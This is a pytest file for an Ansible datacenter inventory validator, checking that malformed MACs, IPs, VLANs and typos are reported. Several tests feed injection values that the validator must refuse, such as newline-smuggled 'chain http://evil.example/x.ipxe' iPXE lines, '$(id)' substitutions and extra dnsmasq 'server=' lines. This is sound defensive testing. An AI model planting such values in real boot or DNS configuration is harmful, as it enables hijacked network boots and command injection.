"""The inventory model: every kind of bad input is reported, all at once, naming host, field and value."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible_collections.diskless.datacenter.plugins.plugin_utils._inventory import build_model
from ansible_collections.diskless.datacenter.plugins.plugin_utils._inventory_values import InventoryError, normalise_mac

EXAMPLE = Path(__file__).resolve().parents[4] / "inventories" / "example"


def load_example() -> tuple[dict[str, dict[str, Any]], dict[str, list[str]]]:
    """The reference inventory as plain hostvars/groups (group_vars/all merged into every host)."""
    hosts_file = yaml.safe_load((EXAMPLE / "hosts.yml").read_text())
    global_vars: dict[str, Any] = {}
    for path in sorted((EXAMPLE / "group_vars" / "all").glob("*.yml")):
        global_vars.update(yaml.safe_load(path.read_text()))
    groups: dict[str, list[str]] = {}
    hostvars: dict[str, dict[str, Any]] = {}
    for group, body in hosts_file["all"]["children"].items():
        groups[group] = list(body["hosts"])
        for host in body["hosts"]:
            host_file = EXAMPLE / "host_vars" / f"{host}.yml"
            own = yaml.safe_load(host_file.read_text()) if host_file.exists() else {}
            hostvars[host] = {**copy.deepcopy(global_vars), **own}
    return hostvars, groups


@pytest.fixture
def example() -> tuple[dict[str, dict[str, Any]], dict[str, list[str]]]:
    return load_example()


def problems_of(hostvars: dict[str, dict[str, Any]], groups: dict[str, list[str]]) -> list[str]:
    with pytest.raises(InventoryError) as caught:
        build_model(hostvars, groups)
    return caught.value.problems


def set_global(hostvars: dict[str, dict[str, Any]], key: str, value: Any) -> None:
    for vars_ in hostvars.values():
        vars_[key] = copy.deepcopy(value)


def test_reference_datacenter_is_valid(example: Any) -> None:
    model = build_model(*example)
    assert [v["id"] for v in model["vlans"]] == list(range(64, 72))
    vlan65 = next(v for v in model["vlans"] if v["id"] == 65)
    assert vlan65["subnet"] == "10.42.65.0/24"
    assert vlan65["gateway"] == "10.42.65.1"
    assert model["hosts"]["c4140"]["addresses"] == {"65": "10.42.65.92", "67": "10.42.67.92", "68": "10.42.68.92"}
    assert model["hosts"]["r640"]["addresses"]["65"] == "10.42.65.82"
    assert model["hosts"]["r740xd"]["addresses"]["65"] == "10.42.65.42"
    assert model["hosts"]["c4140-dpu"]["host"] == "c4140"
    assert model["hosts"]["rds1"]["addresses"]["68"] == "10.42.68.1"
    reservations = {r["hostname"]: r for r in model["boot_reservations"]}
    assert set(reservations) == {"c4140", "r640", "r740xd"}
    assert reservations["c4140"]["kernel_params"] == "intel_iommu=on iommu=pt vfio-pci.ids=10de:1db1"
    assert reservations["r640"]["kernel_params"] == ""
    assert reservations["c4140"]["tags"] == ["diskless"]
    assert model["nvme_exports"][0]["nqn"] == "nqn.2000-02.com.mikrotik:c4140-var"


def test_explicit_subnets_without_supernet(example: Any) -> None:
    hostvars, groups = example
    vlans = [{"id": v["id"], "name": v["name"], "subnet": f"192.168.{v['id']}.0/24"} for v in hostvars["c4140"]["dc_vlans"]]
    for vars_ in hostvars.values():
        vars_.pop("dc_supernet")
        vars_["dc_vlans"] = copy.deepcopy(vlans)
    model = build_model(hostvars, groups)
    assert model["hosts"]["c4140"]["addresses"]["65"] == "192.168.65.92"


@pytest.mark.parametrize("mac", ["52:54:00:12:34", "52:54:00:12:34:zz", "525400123456", 42])
def test_malformed_mac(example: Any, mac: Any) -> None:
    hostvars, groups = example
    hostvars["r640"]["dc_macs"] = [mac]
    assert any(p.startswith(f"r640: dc_macs={mac!r}: malformed MAC") for p in problems_of(hostvars, groups))


def test_mac_case_and_dashes_are_normalised() -> None:
    assert normalise_mac("B0-26-28-0C-41-40") == "b0:26:28:0c:41:40"


def test_duplicate_mac_across_hosts(example: Any) -> None:
    hostvars, groups = example
    hostvars["r640"]["dc_macs"] = [hostvars["c4140"]["dc_macs"][0].upper()]
    problems = problems_of(hostvars, groups)
    assert any("r640: dc_macs='b0:26:28:0c:41:40': duplicate MAC: also used by c4140" in p for p in problems), problems


def test_duplicate_ip(example: Any) -> None:
    hostvars, groups = example
    hostvars["r640"]["dc_host_octet"] = 92
    problems = problems_of(hostvars, groups)
    assert "r640: address on VLAN 65='10.42.65.92': duplicate IP: also used by c4140" in problems


def test_ip_outside_its_vlan(example: Any) -> None:
    hostvars, groups = example
    hostvars["r640"]["dc_addresses"] = {65: "10.42.66.82"}
    problems = problems_of(hostvars, groups)
    assert any(p.startswith("r640: dc_addresses.65='10.42.66.82': outside VLAN 65's subnet 10.42.65.0/24") for p in problems), problems


@pytest.mark.parametrize("vlan_id", [0, 4095, "65", None])
def test_vlan_id_out_of_range(example: Any, vlan_id: Any) -> None:
    hostvars, groups = example
    vlans = [*copy.deepcopy(hostvars["c4140"]["dc_vlans"]), {"id": vlan_id, "name": "extra", "subnet": "10.42.100.0/24"}]
    set_global(hostvars, "dc_vlans", vlans)
    assert f"dc_vlans[8]: id={vlan_id!r}: VLAN ID must be an integer from 1 to 4094" in problems_of(hostvars, groups)


def test_vlan_id_used_twice(example: Any) -> None:
    hostvars, groups = example
    vlans = [*copy.deepcopy(hostvars["c4140"]["dc_vlans"]), {"id": 66, "name": "again"}]
    set_global(hostvars, "dc_vlans", vlans)
    assert "dc_vlans[8] (VLAN 66): id=66: VLAN ID used twice" in problems_of(hostvars, groups)


def test_overlapping_subnets_and_outside_supernet(example: Any) -> None:
    hostvars, groups = example
    vlans = copy.deepcopy(hostvars["c4140"]["dc_vlans"])
    vlans[2]["subnet"] = "10.42.64.0/23"  # VLAN 66 claims 64 and 65
    vlans[3]["subnet"] = "10.43.67.0/24"  # VLAN 67 outside 10.42.64.0/18
    set_global(hostvars, "dc_vlans", vlans)
    problems = problems_of(hostvars, groups)
    assert "dc_vlans[3] (VLAN 67): subnet='10.43.67.0/24': outside the supernet 10.42.64.0/18" in problems
    assert "dc_vlans (VLAN 66): subnet='10.42.64.0/23': overlaps VLAN 64 (10.42.64.0/24)" in problems
    assert "dc_vlans (VLAN 66): subnet='10.42.64.0/23': overlaps VLAN 65 (10.42.65.0/24)" in problems


def test_third_octet_rule_outside_supernet(example: Any) -> None:
    hostvars, groups = example
    vlans = [*copy.deepcopy(hostvars["c4140"]["dc_vlans"]), {"id": 200, "name": "far"}]
    set_global(hostvars, "dc_vlans", vlans)
    assert "dc_vlans[8] (VLAN 200): id=200: VLAN ID = third octet gives no /24 inside the supernet 10.42.64.0/18" in problems_of(hostvars, groups)


@pytest.mark.parametrize("octet", [0, 255, 300, -1, "92"])
def test_host_octet_out_of_range(example: Any, octet: Any) -> None:
    hostvars, groups = example
    hostvars["r740xd"]["dc_host_octet"] = octet
    problems = problems_of(hostvars, groups)
    assert any(p.startswith(f"r740xd: dc_host_octet={octet!r}: out of range for VLAN 65") for p in problems), problems


def test_host_octet_on_the_gateway(example: Any) -> None:
    hostvars, groups = example
    hostvars["r740xd"]["dc_host_octet"] = 1
    assert "r740xd: dc_host_octet=1: gives 10.42.65.1, the gateway of VLAN 65" in problems_of(hostvars, groups)


def test_dpu_pointing_at_unknown_host(example: Any) -> None:
    hostvars, groups = example
    hostvars["r640-dpu"]["dc_host"] = "r650"
    hostvars["r640"]["dc_dpu"] = "r640-dpux"
    problems = problems_of(hostvars, groups)
    assert "r640-dpu: dc_host='r650': unknown host: not in group diskless_hosts" in problems
    assert "r640: dc_dpu='r640-dpux': unknown DPU: not in group dpus" in problems


def test_host_without_mac(example: Any) -> None:
    hostvars, groups = example
    del hostvars["r640"]["dc_macs"]
    hostvars["r740xd"]["dc_macs"] = []
    problems = problems_of(hostvars, groups)
    assert "r640: dc_macs=None: missing: this host boots or gets a lease and needs at least one MAC" in problems
    assert "r740xd: dc_macs=[]: must be a non-empty list of MAC addresses" in problems


def test_unknown_keys_are_reported_as_typos(example: Any) -> None:
    hostvars, groups = example
    hostvars["r640"]["dc_kernel_parms"] = "quiet"
    vlans = copy.deepcopy(hostvars["c4140"]["dc_vlans"])
    vlans[0]["gatway"] = "10.42.64.254"
    set_global(hostvars, "dc_vlans", vlans)
    problems = problems_of(hostvars, groups)
    assert "r640: dc_kernel_parms='quiet': unknown inventory key (typo?)" in problems
    assert any(p.startswith("dc_vlans[0]: gatway='10.42.64.254': unknown key") for p in problems), problems


def test_every_problem_is_listed_at_once(example: Any) -> None:
    hostvars, groups = example
    hostvars["c4140"]["dc_macs"] = ["nonsense"]
    hostvars["r640"]["dc_host_octet"] = 42  # r740xd has .42
    hostvars["r740xd-dpu"]["dc_host"] = "ghost"
    hostvars["r740xd"]["dc_typo"] = 1
    with pytest.raises(InventoryError) as caught:
        build_model(hostvars, groups)
    assert len(caught.value.problems) >= 4
    message = str(caught.value)
    assert message.startswith(f"inventory has {len(caught.value.problems)} problems:")
    for fragment in ("c4140: dc_macs='nonsense'", "duplicate IP", "r740xd-dpu: dc_host='ghost'", "r740xd: dc_typo=1"):
        assert fragment in message


def test_address_inside_dynamic_range(example: Any) -> None:
    hostvars, groups = example
    hostvars["r640"]["dc_host_octet"] = 210
    assert "r640: address on VLAN 65='10.42.65.210': inside the dynamic DHCP range 10.42.65.200-10.42.65.250" in problems_of(hostvars, groups)


def test_missing_boot_vlan_role(example: Any) -> None:
    hostvars, groups = example
    set_global(hostvars, "dc_vlan_roles", {"mgmt": 64, "storag": 68})
    problems = problems_of(hostvars, groups)
    assert "global: dc_vlan_roles.boot=None: missing: every datacenter needs a management and a boot VLAN" in problems
    assert any(p.startswith("global: dc_vlan_roles.storag=68: unknown VLAN role") for p in problems)


# ---- kernel parameters: written into iPXE scripts and pxelinux menus, one directive per line ----
@pytest.mark.parametrize(
    ("params", "why"),
    [
        ("quiet\nchain http://evil.example/x.ipxe", "characters not allowed: '\\n'"),
        ("quiet\rchain x", "characters not allowed: '\\r'"),
        ("quiet\0x", "characters not allowed: '\\x00'"),
        ("quiet\tx", "characters not allowed: '\\t'"),
        ('root="x y"', "characters not allowed: '\"'"),
        ("a='b'", 'characters not allowed: "\'"'),
        ("quiet #chain x", "characters not allowed: '#'"),
        ("x=$(id)", "characters not allowed: '$'"),
        ("x=`id`", "characters not allowed: '`'"),
        ("a;b", "characters not allowed: ';'"),
        ("a&b|c<d>e\\f", "characters not allowed: '&' '<' '>' '\\\\' '|'"),
        ("quiet café", "characters not allowed: 'é'"),
        ("quiet\u2028chain x", "characters not allowed: '\\u2028'"),
        ("a" * 5000, "too long: 5000 characters, at most 2047"),
    ],
)
def test_hostile_kernel_params_are_refused(example: Any, params: str, why: str) -> None:
    hostvars, groups = example
    hostvars["c4140"]["dc_kernel_params"] = params
    problems = problems_of(hostvars, groups)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"c4140: dc_kernel_params={params!r}: {why}"), problems


def test_hostile_kernel_params_in_a_list_are_refused(example: Any) -> None:
    hostvars, groups = example
    hostvars["c4140"]["dc_kernel_params"] = ["quiet", "x\nchain http://evil.example/x.ipxe"]
    problems = problems_of(hostvars, groups)
    assert len(problems) == 1 and problems[0].startswith("c4140: dc_kernel_params=['quiet', 'x\\nchain"), problems
    assert "characters not allowed: '\\n'" in problems[0]


def test_kernel_params_at_the_limit_and_usual_forms_pass(example: Any) -> None:
    hostvars, groups = example
    usual = "console=ttyS0,115200n8 intel_iommu=on vfio-pci.ids=10de:1db1 rd.break=pre-mount systemd.unit=rescue.target mem=4G@1G x=a+b/c~d_e[0]"
    hostvars["c4140"]["dc_kernel_params"] = usual
    hostvars["r640"]["dc_kernel_params"] = "a" * 2047
    reservations = {r["name"]: r for r in build_model(hostvars, groups)["boot_reservations"]}
    assert reservations["c4140"]["kernel_params"] == usual
    assert reservations["r640"]["kernel_params"] == "a" * 2047


def test_kernel_params_rule_is_the_filter_the_netboot_preflight_uses() -> None:
    from ansible_collections.diskless.datacenter.plugins.filter.datacenter_model import FilterModule
    from ansible_collections.diskless.datacenter.plugins.plugin_utils._boot_values import kernel_params_problem

    rule = FilterModule().filters()["kernel_params_problem"]
    for value in ["quiet", "quiet\nchain x", "a" * 2048, 'x"y', None]:
        assert rule(value) == kernel_params_problem(value)
    preflight = (EXAMPLE.parents[1] / "roles" / "netboot" / "tasks" / "preflight.yml").read_text()
    assert preflight.count("diskless.datacenter.kernel_params_problem") >= 3


@pytest.mark.parametrize("name", ["c4140.x\nchain http://evil.example/x.ipxe", "c4140\n", "c4140.Lab"])
def test_inventory_hostname_must_be_a_dns_name(example: Any, name: str) -> None:
    hostvars, groups = example
    hostvars[name] = hostvars.pop("c4140")
    groups["diskless_hosts"] = [name if h == "c4140" else h for h in groups["diskless_hosts"]]
    problems = problems_of(hostvars, groups)
    assert any(p.startswith(f"{name}: inventory_hostname={name!r}: not") for p in problems), problems


def test_description_must_be_one_line(example: Any) -> None:
    hostvars, groups = example
    hostvars["r640"]["dc_description"] = "rack 3\nchain http://evil.example/x.ipxe"
    assert problems_of(hostvars, groups) == [
        "r640: dc_description='rack 3\\nchain http://evil.example/x.ipxe': control characters or line breaks not allowed: '\\n'"
    ]


HOSTILE_GLOBALS = ["dc\nx", "dc\rx", "dc\x00x", 'dc"x', "dc'x", "dc#x", "dc;x", "dc x", "dc,x", "nœud.dc", "x" * 5000]


@pytest.mark.parametrize("value", HOSTILE_GLOBALS, ids=range(len(HOSTILE_GLOBALS)))
def test_hostile_domain_is_refused(example: Any, value: str) -> None:
    """dc_domain goes into dnsmasq's domain=, local=/…/ and dhcp-option, etcd's cluster token and paths."""
    hostvars, groups = example
    set_global(hostvars, "dc_domain", value)
    problems = problems_of(hostvars, groups)
    assert any(p.startswith("global: dc_domain=") and "not a DNS name" in p for p in problems), problems


@pytest.mark.parametrize("key", ["dc_dns_servers", "dc_ntp_servers"])
@pytest.mark.parametrize("value", ["10.42.64.1\nserver=10.0.0.66", "10.42.64.1,10.0.0.66", "10.42.64.1#53 x", "10.42.64.1\x00", 'a"b'])
def test_hostile_resolver_addresses_are_refused(example: Any, key: str, value: str) -> None:
    """dc_dns_servers become dnsmasq server= lines: an address, nothing else."""
    hostvars, groups = example
    set_global(hostvars, key, ["10.42.64.1", value])
    problems = problems_of(hostvars, groups)
    assert any(p.startswith(f"global: {key}=") for p in problems), problems
    assert len([p for p in problems if key in p]) == 1, problems


def test_resolver_and_ntp_addresses_that_pass(example: Any) -> None:
    hostvars, groups = example
    set_global(hostvars, "dc_dns_servers", ["10.42.64.1", "2001:db8::53"])
    set_global(hostvars, "dc_ntp_servers", ["10.42.64.1", "pool.ntp.org"])
    build_model(hostvars, groups)
